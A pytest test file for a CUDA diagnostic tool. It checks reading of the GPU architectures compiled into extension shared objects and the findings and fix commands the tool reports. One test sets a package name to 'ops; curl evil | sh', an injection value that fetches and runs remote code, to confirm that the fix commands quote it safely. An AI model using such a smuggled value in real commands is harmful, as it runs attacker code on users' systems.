"""Third-party CUDA extensions: backends/fatbin.py reads the archs nvcc wrote into small shared objects built
here (skipped without nvcc), and `cudadoctor check` finds a fake installed package whose .so lacks the
fake GPU's architecture, without importing it."""

from __future__ import annotations

import json
import shutil
import subprocess
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import BinaryIO

import pytest

from cudadoctor.backends import fatbin
from cudadoctor.backends.extensions import extension_facts, torch_requirement
from cudadoctor.facts import Facts
from cudadoctor.facts.extensions import ExtensionFacts, ExtensionLibrary, ExtensionPackage
from cudadoctor.knowledge import wheels
from cudadoctor.rules import evaluate
from cudadoctor.rules.examples.base import driver_580, example_gpu, ubuntu_system, venv_torch
from tests.conftest import ROOT

KERNEL = """
__global__ void twice(float *x) { x[threadIdx.x] *= 2.0f; }
extern "C" void run(float *x) { twice<<<1, 32>>>(x); }
"""

# name -> the -gencode options, and the (SASS, PTX) lists the reader must find
TARGETS: dict[str, tuple[list[str], list[str], list[str]]] = {
    "sm80": (["arch=compute_80,code=sm_80"], ["sm_80"], []),
    "ptx75": (["arch=compute_75,code=compute_75"], [], ["compute_75"]),
    "sm90a": (["arch=compute_90a,code=sm_90a"], ["sm_90a"], []),
    "sm100a": (["arch=compute_100a,code=sm_100a"], ["sm_100a"], []),
    "sm100f": (["arch=compute_100f,code=sm_100f"], ["sm_100f"], []),
    "multi": (
        ["arch=compute_80,code=sm_80", "arch=compute_90,code=[sm_90,compute_90]"],
        ["sm_80", "sm_90"],
        ["compute_90"],
    ),
    # every payload compressed, cubins included, and sm_120's longer entry headers
    "compressed": (
        ["arch=compute_75,code=sm_75", "arch=compute_120,code=[sm_120,compute_120]", "-Xfatbin", "-compress-all"],
        ["sm_75", "sm_120"],
        ["compute_120"],
    ),
}

H100 = 'driver 580.65.06\ncuda 13000\ndevice name="NVIDIA H100 80GB HBM3" cc=9.0 total=85520809984 used=1073741824\n'
B300 = 'driver 580.65.06\ncuda 13000\ndevice name="NVIDIA B300" cc=10.3 total=85520809984 used=1073741824\n'


@pytest.fixture(scope="session")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """One tiny CUDA shared object per entry of TARGETS, built by this machine's nvcc."""
    nvcc = shutil.which("nvcc")
    if nvcc is None:
        pytest.skip("no nvcc to build CUDA shared objects")
    out = tmp_path_factory.mktemp("cuda-so")
    (out / "k.cu").write_text(KERNEL)

    def build(name: str) -> Path:
        so = out / f"{name}.so"
        gencode = [arg for g in TARGETS[name][0] for arg in ([g] if g.startswith("-") else ["-gencode", g])]
        cmd = [nvcc, "-shared", "-Xcompiler", "-fPIC", "-cudart", "shared", *gencode, "k.cu", "-o", so.name]
        r = subprocess.run(cmd, cwd=out, capture_output=True, text=True, timeout=300)
        if r.returncode != 0:
            pytest.skip(f"nvcc cannot build {name}: {r.stderr.strip()[-300:]}")
        return so

    with ThreadPoolExecutor(2) as pool:
        return dict(zip(TARGETS, pool.map(build, TARGETS), strict=True))


@pytest.mark.parametrize("name", list(TARGETS))
def test_fatbin_reads_the_archs_nvcc_wrote(built: dict[str, Path], name: str) -> None:
    archs = fatbin.read_archs(str(built[name]))
    assert archs is not None and archs.error is None
    assert (archs.sass, archs.ptx) == (TARGETS[name][1], TARGETS[name][2])
    if name == "compressed":
        assert archs.compressed == archs.entries > 0  # counted by their headers all the same


def test_fatbin_reads_headers_only(built: dict[str, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    """Section headers, the section names and the fat-binary headers: never the payloads."""
    path = built["multi"]
    read: list[int] = []
    real_open = open

    class Counting:
        def __init__(self, fh: BinaryIO) -> None:
            self.fh = fh

        def read(self, n: int = -1) -> bytes:
            assert n >= 0, "a read of the whole file"
            data = self.fh.read(n)
            read.append(len(data))
            return data

        def seek(self, *a: int) -> int:
            return self.fh.seek(*a)

        def __enter__(self) -> Counting:
            return self

        def __exit__(self, *a: object) -> None:
            self.fh.close()

    monkeypatch.setattr(fatbin, "open", lambda p, mode: Counting(real_open(p, mode)), raising=False)
    assert fatbin.read_archs(str(path)) is not None
    with real_open(path, "rb") as fh:
        secs = fatbin.sections(fh)
    data = next(s for s in secs if s.name == fatbin.DATA_SECTION)
    assert sum(read) < data.size  # less than the fatbin section itself: its payloads were skipped


def test_fatbin_says_what_it_cannot_read(built: dict[str, Path], tmp_path: Path) -> None:
    text = tmp_path / "notes.so"
    text.write_text("not a shared object")
    with pytest.raises(fatbin.NotElf):
        fatbin.read_archs(str(text))
    # a fat binary whose first container header is garbage: an error, no exception, no invented archs
    broken = tmp_path / "broken.so"
    shutil.copy(built["sm80"], broken)
    with open(broken, "rb") as fh:
        data = next(s for s in fatbin.sections(fh) if s.name == fatbin.DATA_SECTION)
    with open(broken, "r+b") as fh:
        fh.seek(data.offset)
        fh.write(b"XXXX")
    archs = fatbin.read_archs(str(broken))
    assert archs is not None and archs.error and archs.sass == []
    # a shared object without device code has no fatbin at all
    import _ctypes

    assert fatbin.read_archs(_ctypes.__file__) is None


def test_ptx_with_an_a_or_f_suffix_is_jit_compiled_only_for_its_arch_or_family() -> None:
    assert wheels.coverage(["compute_90a"], "9.0") == "ptx"
    assert wheels.coverage(["compute_90a"], "10.0") == "none"
    assert wheels.coverage(["compute_100f"], "10.3") == "ptx"
    assert wheels.coverage(["compute_100f"], "12.0") == "none"
    assert wheels.coverage(["compute_90"], "12.0") == "ptx"
    assert wheels.coverage(["sm_100a"], "10.3") == "none" and wheels.coverage(["sm_100f"], "10.3") == "sm"


def test_rubin_runs_the_sm_100_family_as_b300_does() -> None:
    """Rubin is compute capability 10.7 (CUDA 13.4); its instructions run sm_100 code like sm_103's, so no
    release needs an sm_107 build (pytorch PR#190654); TensorRT-LLM maps it to the 100f family (PR#17336)."""
    from cudadoctor.knowledge.architectures import arch_name

    assert arch_name("10.7") == "Rubin"
    assert wheels.coverage(["sm_90", "sm_100", "sm_120"], "10.7") == "sm"
    assert wheels.coverage(["sm_100f"], "10.7") == "sm" and wheels.coverage(["sm_100a"], "10.7") == "none"
    assert wheels.coverage(["sm_90", "sm_120"], "10.7") == "none"


def test_torch_requirement_reads_only_torch_itself() -> None:
    assert torch_requirement(["numpy", "torch (==2.5.1)"]) == "torch==2.5.1"
    assert torch_requirement(["torchvision==0.20.1", "torch-geometric"]) is None
    assert torch_requirement(["torch>=2.1; extra == 'gpu'"]) is None
    assert torch_requirement(["torch>=2.1,<2.6; platform_system == 'Linux'"]) == "torch>=2.1,<2.6"


def _facts(cc: str | None, *libs: ExtensionLibrary, pin: str | None = None) -> Facts:
    return Facts(
        system=ubuntu_system(),
        driver=driver_580([example_gpu("NVIDIA H100 80GB HBM3", cc)]),  # type: ignore[arg-type]
        torch=venv_torch(),
        extensions=ExtensionFacts(packages=[ExtensionPackage("my-ops", "0.1.0", pin, list(libs))]),
    )


def test_an_unknown_capability_or_torch_never_adds_a_finding() -> None:
    lib = ExtensionLibrary("my_ops/_C.so", ["sm_80"], [])
    assert {"CD240"} <= {x.code for x in evaluate(_facts("9.0", lib), [])}
    unknown = _facts(None, lib, pin="torch==2.5.1")
    unknown.torch = None
    codes = {x.code for x in evaluate(unknown, [])}
    assert not codes & {"CD240", "CD241", "CD242"} and "CD243" in codes


def test_reading_stops_at_the_deadline() -> None:
    data = {"distributions": 1, "packages": [{"name": "x", "version": "1", "torch": [], "files": [["a.so", "/a"]]}]}
    facts = extension_facts("python", data, deadline=0.0)
    assert facts.timed_out and facts.incomplete()


# --- the command a user runs ---------------------------------------------------------------------------


def _install(site: Path, so: Path, name: str = "fastops", requires: str = "") -> Path:
    """A package as pip leaves it: the module with its .so, and a dist-info whose RECORD lists it. Importing
    it leaves a file behind, so the test sees whether anything imported it."""
    pkg, info = site / name, site / f"{name}-1.2.0.dist-info"
    pkg.mkdir(parents=True)
    info.mkdir()
    shutil.copy(so, pkg / "_C.so")
    (pkg / "__init__.py").write_text(f"open({str(site / 'IMPORTED')!r}, 'w').close()\n")
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.2.0\n" + (
        f"Requires-Dist: {requires}\n" if requires else ""
    )
    (info / "METADATA").write_text(meta)
    (info / "RECORD").write_text(f"{name}/__init__.py,,\n{name}/_C.so,,\n{info.name}/METADATA,,\n")
    return site


def _env(site: Path) -> dict[str, str]:
    return {"PYTHONPATH": f"{site}:{ROOT}"}


def test_check_finds_an_extension_without_kernels_for_the_gpu(run_cli, built, tmp_path: Path) -> None:
    site = _install(tmp_path / "site", built["sm80"])
    r = run_cli("check", "--json", "--only", "driver,extensions", machine=H100, env=_env(site))
    by = {f["code"]: f for f in r.json["findings"]}
    assert r.code == 1 and "CD240" in by, r.stdout[-2000:]
    f = by["CD240"]
    assert f["title"] == "fastops 1.2.0 has no kernels for NVIDIA H100 80GB HBM3 (compute capability 9.0, Hopper)"
    assert "fastops/_C.so carries: sm_80." in f["why"]
    (cmd,) = f["fix"][0]["commands"]
    assert cmd.startswith('TORCH_CUDA_ARCH_LIST="9.0" ') and "--no-binary fastops fastops==1.2.0" in cmd
    assert r.json["facts"]["extensions"]["packages"][0]["libraries"][0]["sass"] == ["sm_80"]
    assert not (site / "IMPORTED").exists()  # read from the file, never imported
    text = run_cli("check", "--only", "driver,extensions", machine=H100, env=_env(site)).stdout
    assert "✗ CD240 fastops 1.2.0 has no kernels for NVIDIA H100 80GB HBM3" in text
    assert 'TORCH_CUDA_ARCH_LIST="9.0"' in text


def test_check_warns_about_an_extension_that_runs_only_through_ptx(run_cli, built, tmp_path: Path) -> None:
    site = _install(tmp_path / "site", built["ptx75"])
    r = run_cli("check", "--json", "--only", "driver,extensions", machine=H100, env=_env(site))
    by = {f["code"]: f for f in r.json["findings"]}
    assert "CD240" not in by and by["CD241"]["severity"] == "warning"
    assert by["CD241"]["title"].startswith("fastops 1.2.0 runs on NVIDIA H100 80GB HBM3")
    assert "only through PTX JIT" in by["CD241"]["title"] and "PTX compute_75" in by["CD241"]["why"]


def test_an_arch_specific_cubin_runs_only_on_its_own_arch(run_cli, built, tmp_path: Path) -> None:
    """sm_100a does not run on a B300 (10.3); sm_100f, its family's, does."""
    exact = _install(tmp_path / "a", built["sm100a"])
    family = _install(tmp_path / "f", built["sm100f"])
    r = run_cli("check", "--json", "--only", "driver,extensions", machine=B300, env=_env(exact))
    assert "CD240" in r.codes() and "sm_100a" in next(f["why"] for f in r.json["findings"] if f["code"] == "CD240")
    r = run_cli("check", "--json", "--only", "driver,extensions", machine=B300, env=_env(family))
    assert not {"CD240", "CD241"} & set(r.codes()) and "CD243" in r.codes()
    ok = next(f for f in r.json["findings"] if f["code"] == "CD243")
    # one row a package: its one library, the family cubin that runs on the B300 (10.3), no link to torch
    assert ok["tables"][0]["rows"] == [["fastops", "1", "sm_100f", "-", "sm_100f", "no"]]


def test_check_finds_an_extension_pinned_to_another_torch(run_cli, built, tmp_path: Path) -> None:
    site = _install(tmp_path / "site", built["multi"], requires="torch==2.5.1")
    r = run_cli("check", "--json", "--only", "driver,torch,extensions", machine=H100, env=_env(site), timeout=120)
    f = next(f for f in r.json["findings"] if f["code"] == "CD242")
    torch_version = r.json["facts"]["torch"]["version"]
    assert f["title"] == f"fastops 1.2.0 was built for torch 2.5.1, but torch {torch_version} is installed"
    assert f["fix"][0]["commands"][0].endswith(f"-m pip install --upgrade fastops torch=={torch_version}")
    # it is no reason for torch.cuda.is_available() being False (the CPU torch is)
    cd210 = next((x for x in r.json["findings"] if x["code"] == "CD210"), None)
    assert cd210 is None or "CD242" not in cd210["why"]


def test_a_saved_report_replays_the_extension_findings(run_cli, built, tmp_path: Path) -> None:
    site = _install(tmp_path / "site", built["sm80"])
    saved = tmp_path / "report.json"
    run_cli("check", "--only", "driver,extensions", "--output", str(saved), machine=H100, env=_env(site))
    r = run_cli("check", "--json", "--from", str(saved))
    assert "CD240" in r.codes()
    # a report written before this check replays without it
    old = json.loads(saved.read_text())
    del old["facts"]["extensions"]
    saved.write_text(json.dumps(old))
    r = run_cli("check", "--json", "--from", str(saved))
    assert r.code in (0, 1, 3) and "CD240" not in r.codes() and "Traceback" not in r.stderr


def test_a_report_shows_an_extension_built_for_another_cuda(run_cli, built, tmp_path: Path) -> None:
    """nvcc 13 links libcudart.so.13 (-cudart shared): beside a CUDA 12.8 torch that is CD244. The CPU torch
    here has no CUDA, so the saved report says which torch the machine had, as a CUDA box's report would."""
    needed = fatbin.read_links(str(built["sm80"])).needed
    (cudart,) = [n for n in needed if n.startswith("libcudart.so.")]
    major = int(cudart.split(".")[2])
    site = _install(tmp_path / "site", built["sm80"])
    saved = tmp_path / "report.json"
    run_cli("check", "--only", "driver,extensions", "--output", str(saved), machine=H100, env=_env(site))
    report = json.loads(saved.read_text())
    other = "12.8" if major != 12 else "13.0"
    report["facts"]["torch"] = {"python_executable": "/opt/venv/bin/python", "installed": True, "version": "2.9.1"}
    report["facts"]["torch"].update(cuda=other, cuda_built=True)
    saved.write_text(json.dumps(report))
    r = run_cli("check", "--json", "--from", str(saved))
    f = next(f for f in r.json["findings"] if f["code"] == "CD244")
    assert f["title"] == f"fastops 1.2.0 was built for CUDA {major}, torch 2.9.1 for CUDA {other}"
    assert f"fastops/_C.so links {cudart}." in f["why"]
    python = report["facts"]["extensions"]["python_executable"]  # the interpreter the extensions are in
    assert f["fix"][0]["commands"][0].startswith(f'TORCH_CUDA_ARCH_LIST="9.0" {python} -m pip install')
    text = run_cli("check", "--lang", "zh_CN", "--from", str(saved)).stdout
    assert f"fastops 1.2.0 是为 CUDA {major} 构建的" in text


def _elf(section: bytes) -> bytes:
    """A minimal 64-bit little-endian ELF with one `.nv_fatbin` section holding `section`."""
    import struct

    names = b"\0.nv_fatbin\0.shstrtab\0"
    data_off = 64
    names_off = data_off + len(section)
    shoff = (names_off + len(names) + 7) & ~7
    head = struct.pack(
        "<16sHHIQQQIHHHHHH", b"\x7fELF\x02\x01\x01" + bytes(9), 3, 62, 1, 0, 0, shoff, 0, 64, 0, 0, 64, 3, 2
    )
    shdr = struct.Struct("<IIQQQQIIQQ")
    table = shdr.pack(*[0] * 10)
    table += shdr.pack(1, 1, 0, 0, data_off, len(section), 0, 0, 8, 0)
    table += shdr.pack(12, 3, 0, 0, names_off, len(names), 0, 0, 1, 0)
    body = head + section + names
    return body + bytes(shoff - len(body)) + table


def _container(*entries: tuple[int, int, int]) -> bytes:
    """A fat-binary container of (kind, arch, flags) entries, each with an 8-byte payload."""
    import struct

    body = b"".join(
        struct.pack("<HHIQIIHHIIIQQQ", kind, 0x101, 64, 8, 0, 0, 0, 1, arch, 0, 0, flags, 0, 0) + bytes(8)
        for kind, arch, flags in entries
    )
    return struct.pack("<IHHQ", fatbin.FATBIN_MAGIC, 1, 16, len(body)) + body


def test_fatbin_skips_zeros_between_containers_and_stops_at_garbage(tmp_path: Path) -> None:
    so = tmp_path / "x.so"
    so.write_bytes(_elf(_container((2, 80, 0x11)) + bytes(24) + _container((2, 90, 0x100011), (1, 90, 0x8011))))
    archs = fatbin.read_archs(str(so))
    assert archs is not None and archs.error is None
    assert (archs.sass, archs.ptx, archs.compressed) == (["sm_80", "sm_90a"], ["compute_90"], 1)
    so.write_bytes(_elf(_container((2, 80, 0x11)) + b"garbage!" * 4))
    archs = fatbin.read_archs(str(so))
    assert archs is not None and archs.sass == ["sm_80"] and "no fat-binary header" in (archs.error or "")


def test_torchvision_without_torch_s_arch_follows_torch_s_finding() -> None:
    """One story: torchvision lacking sm_120 like its torch is torch's finding (its fix brings the pair);
    torchvision lacking an arch its torch has is its own."""
    vision = ExtensionPackage(
        "torchvision", "0.28.0", "torch==2.13.0", [ExtensionLibrary("torchvision/_C.so", ["sm_80"], [])]
    )

    def codes(torch_flags: list[str]) -> set[str]:
        f = _facts("12.0", *vision.libraries)
        f.extensions = ExtensionFacts(packages=[vision])
        f.torch.arch_flags = torch_flags  # type: ignore[union-attr]
        f.torch.version = "2.13.0+cu130"  # type: ignore[union-attr]
        return {x.code for x in evaluate(f, [])}

    assert "CD240" not in codes(["sm_80", "sm_90"])
    assert "CD240" in codes(["sm_80", "sm_90", "sm_120"])


def test_names_from_a_replayed_report_stay_names_in_the_fix() -> None:
    lib = ExtensionLibrary("x/_C.so", ["sm_80"], [])
    f = _facts("9.0", lib, pin="torch==2.5.1")
    f.extensions.packages[0].name = "ops; curl evil | sh"  # type: ignore[union-attr]
    import shlex

    ours = [x for x in evaluate(f, []) if x.code in ("CD240", "CD242")]
    commands = [cmd for finding in ours for fx in finding.fix for cmd in fx.commands]
    assert len(commands) == 2  # the rebuild (CD240) and the reinstall for this torch (CD242)
    for cmd in commands:
        words = shlex.split(cmd)  # as the shell splits it: the name is one word, never a command
        assert "curl" not in words and "ops; curl evil | sh" in words


def test_a_rebuild_keeps_the_kernels_of_every_gpu_here(run_cli, built, tmp_path: Path) -> None:
    """An A100 and an H100: the sm_80 extension fails on the H100 only, and its rebuild must target both
    (built for 9.0 alone it would fail on the A100 instead)."""
    machine = H100 + 'device name="NVIDIA A100-SXM4-80GB" cc=8.0 total=85520809984 used=1073741824\n'
    site = _install(tmp_path / "site", built["sm80"])
    r = run_cli("check", "--json", "--only", "driver,extensions", machine=machine, env=_env(site))
    (f,) = [f for f in r.json["findings"] if f["code"] == "CD240"]
    assert "H100" in f["title"] and f["fix"][0]["commands"][0].startswith('TORCH_CUDA_ARCH_LIST="8.0;9.0" ')


def test_a_report_with_null_arch_lists_claims_no_missing_kernels(run_cli, built, tmp_path: Path) -> None:
    """`null` in a report is unknown (docs/json.md): a library whose lists are null lacks nothing we know of."""
    site = _install(tmp_path / "site", built["sm80"])
    saved = tmp_path / "report.json"
    run_cli("check", "--only", "driver,extensions", "--output", str(saved), machine=H100, env=_env(site))
    report = json.loads(saved.read_text())
    lib = report["facts"]["extensions"]["packages"][0]["libraries"][0]
    lib["sass"] = lib["ptx"] = lib["needed"] = None
    saved.write_text(json.dumps(report))
    r = run_cli("check", "--json", "--from", str(saved))
    assert not {"CD240", "CD241", "CD244"} & set(r.codes()) and "CD243" in r.codes()
    assert "None" not in run_cli("check", "--from", str(saved)).stdout


def test_pins_compare_as_pep_440_and_a_short_cublas_version_is_not_called_affected():
    """Second read: torch==2.5 is 2.5.0; === is no release pin; cuBLAS "13.1.0" may be the fixed 13.1.0.3."""
    from cudadoctor.knowledge.library_defects import affected
    from cudadoctor.rules.extensions import _exact_pin, _same_release

    assert _same_release("2.5", "2.5.0+cu124") and not _same_release("2.5.1", "2.5.0")
    assert _exact_pin("torch===2.5.1") is None and _exact_pin("torch==2.5.1") == "2.5.1"
    assert affected("cublas", "13.1.0", "10.0") is None
    assert affected("cublas", "13.0.2.14", "10.0") is not None


def test_a_pin_for_another_platform_is_not_this_platform_s_pin(run_cli, built, tmp_path: Path) -> None:
    """Requires-Dist lines under markers: only the one that holds here is the pin (the first line is for Windows)."""
    requires = "torch==2.1.0; sys_platform == 'win32'\nRequires-Dist: torch==2.5.1; sys_platform == 'linux'"
    site = _install(tmp_path / "site", built["multi"], requires=requires)
    r = run_cli("check", "--json", "--only", "driver,torch,extensions", machine=H100, env=_env(site), timeout=120)
    f = next(f for f in r.json["findings"] if f["code"] == "CD242")
    assert f["title"].startswith("fastops 1.2.0 was built for torch 2.5.1,"), f["title"]


def test_a_symbol_table_too_large_to_read_leaves_the_torch_link_unknown(built, monkeypatch) -> None:
    """A skipped .dynsym/.dynstr is not "links no torch": the answer is unknown."""
    assert fatbin.read_links(str(built["sm80"])).torch_symbols == 0
    monkeypatch.setattr(fatbin, "MAX_DYNAMIC", 16)
    assert fatbin.read_links(str(built["sm80"])).torch_symbols is None
